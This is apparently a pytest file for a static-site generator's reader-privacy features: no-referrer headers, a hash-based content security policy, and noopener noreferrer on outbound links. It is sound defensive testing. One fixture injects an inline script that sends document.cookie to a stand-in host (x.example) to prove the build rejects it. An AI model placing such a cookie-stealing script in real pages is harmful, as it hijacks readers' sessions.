"""Readers' privacy in the built pages (volia/outputs/privacy.py, hooks/volia_privacy.py): every page
sends no referrer, carries a content security policy ahead of its first script whose hashes are those
of the theme's inline scripts, and every link out of the site says rel="noopener noreferrer".
What the policy lets through in a browser is tested in test_browser_privacy.py."""

from __future__ import annotations

import base64
import hashlib
from pathlib import Path

import pytest
from conftest import ROOT, build_project, read_html

from volia.outputs import privacy


def _hash(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def _policy(soup) -> dict[str, list[str]]:
    meta = soup.select_one('meta[http-equiv="Content-Security-Policy"]')
    return {d.split()[0]: d.split()[1:] for d in meta["content"].split(";")}


def test_every_page_sends_no_referrer_and_carries_the_policy_before_any_script(site: Path) -> None:
    pages = sorted(site.glob("**/*.html"))
    assert len(pages) > 100
    for path in pages:
        soup = read_html(path)
        head = soup.head.find_all(True)
        names = [(t.name, t.get("name") or t.get("http-equiv")) for t in head[:3]]
        assert names == [("meta", None), ("meta", "referrer"), ("meta", "Content-Security-Policy")], path
        assert soup.select_one('meta[name="referrer"]')["content"] == "no-referrer"
        policy = _policy(soup)
        assert policy["default-src"] == ["'none'"] and policy["base-uri"] == ["'none'"], path
        assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "http:", "https:"} & {v for vs in policy.values() for v in vs}
        inline = [s.string or "" for s in soup.select("script:not([src])") if s.get("type") != "application/json"]
        assert inline and {_hash(s) for s in inline} <= set(policy["script-src"]), path
        # one more: the search worker's frame over file:// (the iframe-worker shim)
        assert len(policy["script-src"]) == 1 + len(set(inline)) + 1, path


def test_every_link_out_of_the_site_carries_noopener_noreferrer(site: Path) -> None:
    outbound = 0
    for path in sorted(site.glob("**/*.html")):
        for a in read_html(path).select("a[href]"):
            if a["href"].startswith(("http:", "https:", "//", "mailto:")):
                outbound += 1
                assert {"noopener", "noreferrer"} <= set(a.get("rel", [])), (path, str(a))
    assert outbound > 50  # essays' Markdown links, sources, share links


def test_links_are_given_rel_words_and_keep_their_own() -> None:
    html = ('<a href="https://x.example/?a=1&amp;b=>2">x</a> <a href="../y.html">y</a> <a href="#z">z</a>'
            '<a class="c" href=\'//cdn.example\' rel="nofollow">c</a> <a href="mailto:a@b.example" rel="NOOPENER">m</a>')
    assert privacy.outbound_links(html) == (
        '<a href="https://x.example/?a=1&amp;b=>2" rel="noopener noreferrer">x</a> <a href="../y.html">y</a> '
        '<a href="#z">z</a><a class="c" href=\'//cdn.example\' rel="nofollow noopener noreferrer">c</a> '
        '<a href="mailto:a@b.example" rel="NOOPENER noreferrer">m</a>')


def test_only_runnable_inline_scripts_are_hashed() -> None:
    html = ('<head><meta charset="utf-8"><script>a()</script><script src="b.js"></script>'
            '<script type="application/json">{"c": 1}</script><SCRIPT type="module">d()</SCRIPT></head>')
    assert privacy.inline_scripts(html) == ["a()", "d()"]
    protected, own = privacy.protect(html)
    assert own == [] and _hash("a()") in protected and _hash("d()") in protected and _hash('{"c": 1}') not in protected


def test_a_script_in_the_page_content_is_not_hashed() -> None:
    """The theme's scripts are allowed; one that came with the page's content (an essay) is not."""
    content = "<p>x</p><script>steal()</script>"
    html = f'<html><head><meta charset="utf-8"><script>theme()</script></head><body>{content}</body></html>'
    protected, own = privacy.protect(html, content)
    assert own == ["steal()"]
    assert _hash("theme()") in protected and _hash("steal()") not in protected


def test_the_frame_script_of_the_worker_shim_is_read_from_the_shim() -> None:
    shim = (ROOT / "docs/assets/vendor/iframe-worker/shim.js").read_text(encoding="utf-8")
    script = privacy.WorkerBootstrap(shim).script("../assets/w.js")
    assert script.startswith("postMessage=function c(s,n){parent.postMessage(s,n||\"*\")};importScripts=function d(")
    assert script.endswith('filename:"../assets/w.js",error}))})') and "${" not in script
    # Control: a shim that writes its frame differently stops the build instead of being guessed at.
    with pytest.raises(privacy.PrivacyError, match="no longer writes"):
        privacy.WorkerBootstrap(shim.replace("<script>postMessage", "<script src=x>postMessage").replace("<\\/script>", ""))


@pytest.mark.slow
def test_an_essay_with_an_inline_script_fails_the_build_naming_it(tmp_path: Path, caplog) -> None:
    def edit_docs(docs: Path) -> None:
        (docs / "about.md").write_text((docs / "about.md").read_text(encoding="utf-8")
                                       + "\n\n<script>fetch('https://x.example/?' + document.cookie)</script>\n",
                                       encoding="utf-8")

    code, _ = build_project(tmp_path, edit_docs=edit_docs)
    assert code == 1
    assert "about.md: an inline script in the page's content is blocked" in caplog.text


def test_without_the_policy_a_page_still_sends_no_referrer() -> None:
    """What `mkdocs serve` gets (hooks/volia_privacy.py): its live-reload script is inline."""
    html = '<head><meta charset="utf-8"><script>a()</script></head><a href="https://x.example">x</a>'
    protected, _ = privacy.protect(html, policy=False)
    assert privacy.REFERRER in protected and "Content-Security-Policy" not in protected
    assert 'rel="noopener noreferrer"' in protected
